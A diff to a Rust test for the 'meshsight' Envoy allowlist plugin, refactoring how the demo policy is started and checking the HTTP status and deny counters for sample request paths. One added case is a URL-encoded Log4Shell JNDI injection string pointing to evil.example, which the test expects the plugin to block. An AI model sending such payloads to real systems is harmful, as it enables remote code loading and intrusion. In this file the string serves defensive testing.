@@ -1,43 +1,15 @@
-//! The allowlist policy of the `make run` demo (`envoy-config/envoy.yaml`) compiles and does what
-//! the demo's curl lines say.
+//! The allowlist section of the `make run` demo's policy (`envoy-config/envoy.yaml`, one
+//! `meshsight` plugin running the whole document in one pass) compiles and answers as the
+//! demo's curl lines say.
 
 // Test helpers fail the test by panicking.
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
-use meshsight_test_harness::host::Host;
-
-/// The JSON text of the allowlist's `value: |` block in envoy.yaml.
-fn demo_policy() -> String {
-    let yaml = std::fs::read_to_string(concat!(
-        env!("CARGO_MANIFEST_DIR"),
-        "/../../envoy-config/envoy.yaml"
-    ))
-    .unwrap();
-    let block = &yaml[yaml
-        .find("name: meshsight.allowlist")
-        .expect("allowlist filter in envoy.yaml")..];
-    let value = &block[block.find("value: |").expect("a `value: |` block")..];
-    let mut lines = value.lines().skip(1);
-    let first = lines.next().unwrap();
-    let indent = first.len() - first.trim_start().len();
-    let mut json = first.to_string();
-    for line in lines {
-        if line.trim().is_empty() || line.len() - line.trim_start().len() < indent {
-            break;
-        }
-        json.push('\n');
-        json.push_str(line);
-    }
-    json
-}
+mod demo;
 
 #[test]
 fn the_demo_policy_compiles_and_behaves_as_the_banner_says() {
-    let mut host = Host::builder(meshsight::register)
-        .property(&["plugin_root_id"], "meshsight_allowlist")
-        .plugin_config(demo_policy())
-        .start()
-        .unwrap_or_else(|e| panic!("{e}"));
+    let mut host = demo::start_demo();
     for (method, path, status) in [
         ("GET", "/api/items", None),
         ("GET", "/api/orders/42", None),
@@ -51,18 +23,14 @@ fn the_demo_policy_compiles_and_behaves_as_the_banner_says() {
         ("GET", "/search?q=shoes", None),
         ("GET", "/search?q=shoes&debug=1", Some(403)),
         ("GET", "/api//v1/%69tems", None),
+        // The banner's blocked attack: denied like any unlisted path.
+        (
+            "GET",
+            "/admin?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+            Some(403),
+        ),
     ] {
-        let id = host.new_http_stream();
-        host.request_headers(
-            id,
-            &[
-                (":method", method),
-                (":path", path),
-                (":authority", "127.0.0.1:10000"),
-                (":scheme", "http"),
-            ],
-            true,
-        );
+        let id = demo::get(&mut host, method, path, &[]);
         assert_eq!(
             host.local_response(id).map(|r| r.status),
             status,
@@ -75,5 +43,8 @@ fn the_demo_policy_compiles_and_behaves_as_the_banner_says() {
                 "the demo rewrites to the checked path: {headers:?}"
             );
         }
+        demo::finish(&mut host, id);
     }
+    assert_eq!(host.counter("meshsight_allowlist_denied"), Some(5));
+    assert_eq!(host.counter("meshsight_allowlist_malformed"), Some(2));
 }
